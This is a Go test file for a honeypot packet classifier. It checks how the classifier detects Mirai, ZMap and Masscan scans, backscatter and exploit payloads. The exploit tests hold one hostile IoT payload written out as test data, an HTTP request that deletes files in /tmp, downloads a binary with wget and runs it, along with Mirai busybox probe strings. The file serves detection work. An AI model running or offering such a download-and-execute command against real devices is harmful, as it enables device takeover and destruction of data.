package classify

import (
	"net/netip"
	"testing"

	"github.com/honeyscope/honeyscope/internal/decode"
)

const (
	syn    = decode.TCPSyn
	ack    = decode.TCPAck
	rst    = decode.TCPRst
	fin    = decode.TCPFin
	psh    = decode.TCPPsh
	synAck = decode.TCPSyn | decode.TCPAck
)

var (
	src4 = netip.MustParseAddr("198.51.100.7")
	dst4 = netip.MustParseAddr("10.0.0.1") // 0x0a000001
	src6 = netip.MustParseAddr("2001:db8::7")
	dst6 = netip.MustParseAddr("2001:db8::1")
)

// tcp4 builds an IPv4 TCP packet to dst4 port 80 with a transport header.
func tcp4(flags uint8, seq uint32, ipid uint16) decode.Packet {
	return decode.Packet{
		Src: src4, Dst: dst4, Proto: decode.ProtoTCP, TTL: 64, IPID: ipid,
		HasTransport: true, SrcPort: 40000, DstPort: 80, TCPFlags: flags, Seq: seq,
	}
}

func tcp6(flags uint8, seq uint32) decode.Packet {
	return decode.Packet{
		Src: src6, Dst: dst6, IPv6: true, Proto: decode.ProtoTCP, TTL: 64,
		HasTransport: true, SrcPort: 40000, DstPort: 23, TCPFlags: flags, Seq: seq,
	}
}

func icmp4(typ, code uint8) decode.Packet {
	return decode.Packet{Src: src4, Dst: dst4, Proto: decode.ProtoICMP, HasTransport: true, ICMPType: typ, ICMPCode: code}
}

func icmp6(typ, code uint8) decode.Packet {
	return decode.Packet{Src: src6, Dst: dst6, IPv6: true, Proto: decode.ProtoICMPv6, HasTransport: true, ICMPType: typ, ICMPCode: code}
}

// with applies f to a copy of p.
func with(p decode.Packet, f func(*decode.Packet)) decode.Packet {
	f(&p)
	return p
}

func tags(cs ...Class) Tags {
	t := Access.Bit()
	for _, c := range cs {
		t |= c.Bit()
	}
	return t
}

// Worked values for dst4 = 10.0.0.1 (0x0a000001), dport 80 (0x50):
// seq 0x12345678 gives the masscan IP ID (0x0a000001^0x50^0x12345678)&0xffff
// = 0x5629; a Mirai SYN (seq = 0x0a000001) has masscan IP ID 0x0050.
const (
	miraiSeq      = 0x0a000001
	otherSeq      = 0x12345678
	masscanIPID   = 0x5629
	plainIPID     = 0x1111
	miraiMassIPID = 0x0050
)

func TestClassifyHeaders(t *testing.T) {
	tests := []struct {
		name string
		p    decode.Packet
		want Tags
	}{
		// mirai
		{"mirai syn seq==dst", tcp4(syn, miraiSeq, plainIPID), tags(Mirai)},
		{"mirai syn with ece cwr", tcp4(syn|0xc0, miraiSeq, plainIPID), tags(Mirai)},
		{"mirai first fragment", with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.Frag = decode.FragFirst }), tags(Mirai)},
		{"syn-ack seq==dst is not mirai", tcp4(synAck, miraiSeq, plainIPID), tags(Backscatter)},
		{"ack seq==dst", tcp4(ack, miraiSeq, plainIPID), tags()},
		{"syn seq==dst+1", tcp4(syn, miraiSeq+1, plainIPID), tags()},
		{"syn seq==src", tcp4(syn, 0xc6336407, plainIPID), tags()},
		{"syn byte-swapped seq", tcp4(syn, 0x0100000a, plainIPID), tags()},
		{"ipv6 never mirai", tcp6(syn, 0x20010db8), tags()},
		{"ipv6 seq==last 32 bits", tcp6(syn, 1), tags()},
		{"later fragment", with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.Frag = decode.FragLater }), tags()},
		{"later fragment without header", with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.Frag = decode.FragLater; p.HasTransport = false }), tags()},
		{"no transport header", with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.HasTransport = false }), tags()},
		{"udp seq field ignored", with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.Proto = decode.ProtoUDP }), tags()},
		{"mirai syn with masscan id", tcp4(syn, miraiSeq, miraiMassIPID), tags(Mirai, Masscan)},

		// zmap
		{"zmap syn", tcp4(syn, otherSeq, 54321), tags(ZMap)},
		{"zmap id 54320", tcp4(syn, otherSeq, 54320), tags()},
		{"zmap id on syn-ack", tcp4(synAck, otherSeq, 54321), tags(Backscatter)},
		{"zmap id on ack", tcp4(ack, otherSeq, 54321), tags()},
		{"zmap id on udp", with(tcp4(syn, otherSeq, 54321), func(p *decode.Packet) { p.Proto = decode.ProtoUDP }), tags()},
		{"zmap id later fragment", with(tcp4(syn, otherSeq, 54321), func(p *decode.Packet) { p.Frag = decode.FragLater }), tags()},
		{"zmap and mirai", tcp4(syn, miraiSeq, 54321), tags(Mirai, ZMap)},

		// masscan
		{"masscan syn", tcp4(syn, otherSeq, masscanIPID), tags(Masscan)},
		{"masscan off by one", tcp4(syn, otherSeq, masscanIPID+1), tags()},
		{"masscan other port", with(tcp4(syn, otherSeq, masscanIPID), func(p *decode.Packet) { p.DstPort = 81 }), tags()},
		{"masscan relation on syn-ack", tcp4(synAck, otherSeq, masscanIPID), tags(Backscatter)},
		{"masscan relation on rst", tcp4(rst, otherSeq, masscanIPID), tags(Backscatter)},

		// backscatter
		{"syn-ack", tcp4(synAck, otherSeq, plainIPID), tags(Backscatter)},
		{"syn-ack-psh", tcp4(synAck|psh, otherSeq, plainIPID), tags(Backscatter)},
		{"rst", tcp4(rst, 0, plainIPID), tags(Backscatter)},
		{"rst-ack", tcp4(rst|ack, 0, plainIPID), tags(Backscatter)},
		{"syn-rst", tcp4(syn|rst, otherSeq, plainIPID), tags(Backscatter)},
		{"syn-rst seq==dst", tcp4(syn|rst, miraiSeq, plainIPID), tags(Mirai, Backscatter)},
		{"fin", tcp4(fin, 0, plainIPID), tags()},
		{"fin-ack", tcp4(fin|ack, 0, plainIPID), tags()},
		{"null scan", tcp4(0, 0, plainIPID), tags()},
		{"ipv6 syn-ack", tcp6(synAck, 5), tags(Backscatter)},
		{"ipv6 rst", tcp6(rst, 5), tags(Backscatter)},
		{"rst without header", with(tcp4(rst, 0, plainIPID), func(p *decode.Packet) { p.HasTransport = false }), tags()},
		{"icmp echo reply", icmp4(0, 0), tags(Backscatter)},
		{"icmp unreachable", icmp4(3, 1), tags(Backscatter)},
		{"icmp port unreachable", icmp4(3, 3), tags(Backscatter)},
		{"icmp time exceeded", icmp4(11, 0), tags(Backscatter)},
		{"icmp echo request", icmp4(8, 0), tags()},
		{"icmp redirect", icmp4(5, 1), tags()},
		{"icmp timestamp", icmp4(13, 0), tags()},
		{"icmp later fragment", with(icmp4(0, 0), func(p *decode.Packet) { p.Frag = decode.FragLater; p.HasTransport = false }), tags()},
		{"icmpv6 echo reply", icmp6(129, 0), tags(Backscatter)},
		{"icmpv6 unreachable", icmp6(1, 4), tags(Backscatter)},
		{"icmpv6 time exceeded", icmp6(3, 0), tags(Backscatter)},
		{"icmpv6 echo request", icmp6(128, 0), tags()},
		{"icmpv6 neighbour solicitation", icmp6(135, 0), tags()},
		{"icmpv6 packet too big", icmp6(2, 0), tags()},
		{"icmpv6 type 0", icmp6(0, 0), tags()},
		{"icmpv4 type 129", icmp4(129, 0), tags()},
		{"icmpv4 type 1", icmp4(1, 0), tags()},
		{"icmp proto over ipv6", with(icmp4(3, 0), func(p *decode.Packet) { p.IPv6 = true; p.Src, p.Dst = src6, dst6 }), tags()},
		{"udp", decode.Packet{Src: src4, Dst: dst4, Proto: decode.ProtoUDP, HasTransport: true, DstPort: 53}, tags()},
		{"gre", decode.Packet{Src: src4, Dst: dst4, Proto: decode.ProtoGRE}, tags()},
		{"zero packet", decode.Packet{}, tags()},
	}
	c := &Classifier{Exploits: NewBuiltinExploits()}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := tt.p
			got, id := c.Classify(&p)
			if got != tt.want || id != -1 {
				t.Errorf("Classify = %s, %d; want %s, -1", tagString(got), id, tagString(tt.want))
			}
		})
	}
}

func tagString(t Tags) string {
	s := ""
	for c := Class(0); c < NumClasses; c++ {
		if t.Has(c) {
			if s != "" {
				s += "|"
			}
			s += c.String()
		}
	}
	return "{" + s + "}"
}

func TestClassifyExploit(t *testing.T) {
	m := NewBuiltinExploits()
	jaws := patternID(t, m, "jaws-shell")
	busybox := patternID(t, m, "busybox-token")
	exploitPayload := []byte("GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/arm;sh+/tmp/arm HTTP/1.1\r\n\r\n")
	psh4 := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = exploitPayload })
	tests := []struct {
		name     string
		c        *Classifier
		p        decode.Packet
		want     Tags
		wantID   int
		wantNone bool
	}{
		{"tcp exploit", &Classifier{Exploits: m}, psh4, tags(Exploit), jaws, false},
		{"first fragment exploit", &Classifier{Exploits: m}, with(psh4, func(p *decode.Packet) { p.Frag = decode.FragFirst }), tags(Exploit), jaws, false},
		{"later fragment payload ignored", &Classifier{Exploits: m}, with(psh4, func(p *decode.Packet) { p.Frag = decode.FragLater; p.HasTransport = false }), tags(), -1, true},
		{"nil matcher", &Classifier{}, psh4, tags(), -1, true},
		{"nil classifier", nil, psh4, tags(), -1, true},
		{"benign payload", &Classifier{Exploits: m}, with(psh4, func(p *decode.Packet) { p.Payload = benignHTTP(1500) }), tags(), -1, true},
		{"udp exploit", &Classifier{Exploits: m}, decode.Packet{Src: src4, Dst: dst4, Proto: decode.ProtoUDP, HasTransport: true, DstPort: 23, Payload: []byte("/bin/busybox MIRAI\r\n")}, tags(Exploit), busybox, false},
		{"payload without transport header flag", &Classifier{Exploits: m}, decode.Packet{Src: src4, Dst: dst4, Proto: decode.ProtoTCP, Payload: []byte("/bin/busybox ECCHI")}, tags(Exploit), busybox, false},
		{"exploit on syn data", &Classifier{Exploits: m}, with(tcp4(syn, miraiSeq, plainIPID), func(p *decode.Packet) { p.Payload = []byte("/bin/busybox MIRAI") }), tags(Mirai, Exploit), busybox, false},
		{"quoted icmp payload ignored", &Classifier{Exploits: m}, with(icmp4(3, 3), func(p *decode.Packet) { p.Quoted = true; p.Payload = exploitPayload }), tags(Backscatter), -1, true},
		{"ipv6 exploit", &Classifier{Exploits: m}, with(tcp6(psh|ack, 1), func(p *decode.Packet) { p.Payload = exploitPayload }), tags(Exploit), jaws, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := tt.p
			got, id := tt.c.Classify(&p)
			if got != tt.want || id != tt.wantID {
				t.Errorf("Classify = %s, %d; want %s, %d", tagString(got), id, tagString(tt.want), tt.wantID)
			}
			if got.Has(Exploit) == tt.wantNone {
				t.Errorf("exploit tag = %v, want %v", got.Has(Exploit), !tt.wantNone)
			}
		})
	}
	var nilClassifier *Classifier
	if got, id := nilClassifier.Classify(nil); got != 0 || id != -1 {
		t.Errorf("Classify(nil) = %s, %d; want {}, -1", tagString(got), id)
	}
}

func TestClassifyAllocs(t *testing.T) {
	c := &Classifier{Exploits: NewBuiltinExploits()}
	synPkt := tcp4(syn, miraiSeq, 54321)
	benign := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = browserHTTP(1500) })
	nearMiss := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = benignHTTP(1500) })
	exploit := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = exploitHTTP(1500) })
	for _, tt := range []struct {
		name    string
		p       *decode.Packet
		exploit bool
	}{
		{"syn", &synPkt, false},
		{"http 1.5KB benign", &benign, false},
		{"http 1.5KB benign near misses", &nearMiss, false},
		{"http 1.5KB exploit", &exploit, true},
	} {
		tg, _ := c.Classify(tt.p)
		if tg.Has(Exploit) != tt.exploit {
			t.Fatalf("%s: exploit = %v, want %v", tt.name, tg.Has(Exploit), tt.exploit)
		}
		if a := testing.AllocsPerRun(200, func() { c.Classify(tt.p) }); a != 0 {
			t.Errorf("%s: %v allocs per Classify", tt.name, a)
		}
	}
}

func BenchmarkClassify(b *testing.B) {
	c := &Classifier{Exploits: NewBuiltinExploits()}
	synPkt := tcp4(syn, miraiSeq, plainIPID)
	benign := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = browserHTTP(1024) })
	nearMiss := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = benignHTTP(1024) })
	exploit := with(tcp4(psh|ack, otherSeq, plainIPID), func(p *decode.Packet) { p.Payload = exploitHTTP(1024) })
	for _, bb := range []struct {
		name string
		p    *decode.Packet
	}{
		{"syn-empty", &synPkt},
		{"benign-1KB", &benign},
		{"benign-nearmiss-1KB", &nearMiss},
		{"exploit-1KB", &exploit},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.SetBytes(int64(len(bb.p.Payload)))
			b.ReportAllocs()
			var sink Tags
			for b.Loop() {
				t, _ := c.Classify(bb.p)
				sink |= t
			}
			if sink == 0 {
				b.Fatal("no tags")
			}
		})
	}
}

// FuzzClassify builds packets from fuzz input and checks that Classify never
// panics and that every tag it sets satisfies its definition.
func FuzzClassify(f *testing.F) {
	f.Add(byte(0), byte(decode.ProtoTCP), byte(syn), uint32(miraiSeq), uint16(54321), uint16(80), byte(0), []byte(nil))
	f.Add(byte(1), byte(decode.ProtoICMPv6), byte(0), uint32(0), uint16(0), uint16(0), byte(129), []byte("x"))
	f.Add(byte(0), byte(decode.ProtoTCP), byte(psh|ack), uint32(1), uint16(2), uint16(80), byte(0), []byte("GET /shell?x"))
	c := &Classifier{Exploits: NewBuiltinExploits()}
	f.Fuzz(func(t *testing.T, bits, proto, flags byte, seq uint32, ipid, dport uint16, icmpType byte, payload []byte) {
		p := decode.Packet{
			Proto: proto, TCPFlags: flags, Seq: seq, IPID: ipid, DstPort: dport, ICMPType: icmpType,
			IPv6: bits&1 != 0, HasTransport: bits&2 != 0, Frag: (bits >> 2) % 3, Quoted: bits&16 != 0,
			Payload: payload,
		}
		if p.IPv6 {
			p.Src, p.Dst = src6, dst6
		} else {
			p.Src, p.Dst = src4, dst4
		}
		tg, id := c.Classify(&p)
		if !tg.Has(Access) {
			t.Fatal("no access tag")
		}
		scan := !p.IPv6 && p.Proto == decode.ProtoTCP && p.HasTransport && p.Frag != decode.FragLater &&
			p.TCPFlags&syn != 0 && p.TCPFlags&ack == 0
		if tg.Has(Mirai) && !(scan && p.Seq == miraiSeq) {
			t.Errorf("mirai tag on %+v", p)
		}
		if tg.Has(ZMap) && !(scan && p.IPID == 54321) {
			t.Errorf("zmap tag on %+v", p)
		}
		if tg.Has(Masscan) && !scan {
			t.Errorf("masscan tag on %+v", p)
		}
		if tg.Has(Backscatter) && (!p.HasTransport || p.Frag == decode.FragLater) {
			t.Errorf("backscatter tag without transport header on %+v", p)
		}
		if tg.Has(Exploit) != (id >= 0) {
			t.Errorf("exploit tag %v with id %d", tg.Has(Exploit), id)
		}
		if id >= 0 && (p.Frag == decode.FragLater || p.Quoted || len(p.Payload) == 0) {
			t.Errorf("exploit id %d on %+v", id, p)
		}
	})
}
